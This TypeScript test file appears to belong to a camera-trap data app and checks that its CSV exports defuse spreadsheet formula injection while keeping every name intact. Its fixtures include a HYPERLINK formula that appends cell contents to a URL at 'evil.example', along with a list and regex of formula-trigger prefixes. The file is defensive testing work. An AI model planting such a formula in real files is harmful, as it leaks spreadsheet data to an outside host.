// A camera, a user or a file may name anything after a formula: every export that a spreadsheet opens keeps it from running
// one, and what was there is read back. SECURITY.md, Exports.
import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { resultsCsv } from "~/demo/shown/results-csv";
import { outside } from "~/domain/csv/csv-line";
import { figuresCsv } from "~/domain/dashboard/shown/table-file";
import { issue, issuesCsv } from "~/domain/exchange/camtrap-dp/issue";
import { EXPORT_KINDS, type ExportKind } from "~/domain/exchange/export/export-kinds";
import { decide } from "~models/run/decide";
import { box, finding, reading, twoStages } from "../../../models/judging-world";
import { filesOf, insight } from "./exported";

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"fox")';
const NAMES = [
  FORMULA,
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "'Akikiki",
  "''",
  "＝1+1",
  "－1",
  "＠a",
];
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;

/** The cells of a CSV file, line by line, as a spreadsheet reads them. */
const cellsOf = (text: string): readonly (readonly string[])[] =>
  parse(text, { bom: true, relax_column_count: true });

/** Cells that would run, numbers apart. */
const running = (text: string) =>
  cellsOf(text)
    .flat()
    .filter((cell) => RUNS.test(cell) && Number.isNaN(Number(cell)));

const unescaped = (cell: string) => cell.replace(/^'/, "");

const named = NAMES.map((name, at) =>
  insight(at + 1, {
    className: name,
    classList: [
      { className: name, confidence: 60 },
      { className: FORMULA, confidence: 30 },
    ],
  }),
);

/** Every export, and whether a spreadsheet is meant to open it. */
const EXPORTS: Readonly<Record<ExportKind, "spreadsheet" | "data">> = {
  csv: "spreadsheet",
  lossless: "spreadsheet",
  camtrap: "data",
  places: "data",
};

describe("an export of insights named after formulas", () => {
  test.each(EXPORT_KINDS)("%s runs none, or is named as data", (kind) => {
    const files = Object.entries(filesOf(kind, named)).filter(([file]) => file.endsWith(".csv"));
    const cells = files.flatMap(([, text]) => running(text));
    // Of a Camtrap DP the tags begin with words of ours, and the names of species are data.
    if (EXPORTS[kind] === "spreadsheet") expect(cells).toEqual([]);
    else expect(files.length === 0 || kind === "camtrap").toBe(true);
  });

  test("lossless gives every name back", () => {
    const [head = [], ...rows] = cellsOf(Object.values(filesOf("lossless", named))[0] ?? "");
    const column = (name: string) => rows.map((row) => row[head.indexOf(name)] ?? "");
    expect(column("class_name").map(unescaped)).toEqual(NAMES);
    expect(column("class_list").map((list) => JSON.parse(unescaped(list))[0][0])).toEqual(NAMES);
  });

  test("Camtrap DP keeps every name as it is, in the tags of its observations", () => {
    const [head = [], ...rows] = cellsOf(filesOf("camtrap", named)["observations.csv"] ?? "");
    const tags = rows.map((row) => row[head.indexOf("observationTags")] ?? "");
    expect(tags.map((tag) => tag.split("|")[0])).toEqual(NAMES.map((name) => `class:${name}`));
  });
});

test("the figures of a widget run none, and give every name back", () => {
  const rows = NAMES.map((name) => ({ cells: [name, -5], href: null }));
  const text = figuresCsv({ caption: "Insights", head: ["Class", "Insights"], rows }, [FORMULA]);
  expect(running(text)).toEqual([]);
  const [, ...lines] = cellsOf(text);
  expect(lines.map((cells) => cells.map((cell) => unescaped(cell)))).toEqual(
    NAMES.map((name) => [name, "-5", FORMULA]),
  );
});

test("the report of an import runs none, whatever is in the file", () => {
  const facts = { line: 2, loses: "line" } as const;
  const text = issuesCsv(
    NAMES.map((name) => issue({ ...facts, file: name, column: name, value: name, reason: name })),
  );
  expect(running(text)).toEqual([]);
  expect(
    cellsOf(text)
      .slice(1)
      .map(([file]) => unescaped(file ?? "")),
  ).toEqual(NAMES);
});

test("the results of a tried model run none, and give every name of a file back", () => {
  const outcome = decide(twoStages(), reading(finding(box(0), 0.9)));
  const photos = NAMES.map((file, at) => ({
    file,
    result: at % 2 === 0 ? { width: 320, height: 240, outcome } : { failure: FORMULA },
  }));
  const text = resultsCsv(twoStages(), photos as Parameters<typeof resultsCsv>[1]);
  expect(running(text)).toEqual([]);
  expect(
    cellsOf(text)
      .slice(1)
      .map(([file]) => unescaped(file ?? "")),
  ).toEqual(NAMES);
});

test.each(NAMES)("%j is marked by one apostrophe", (name) => {
  expect(outside(name)).toBe(`'${name}`);
  expect(outside(`x${name}`)).toBe(`x${name}`);
});
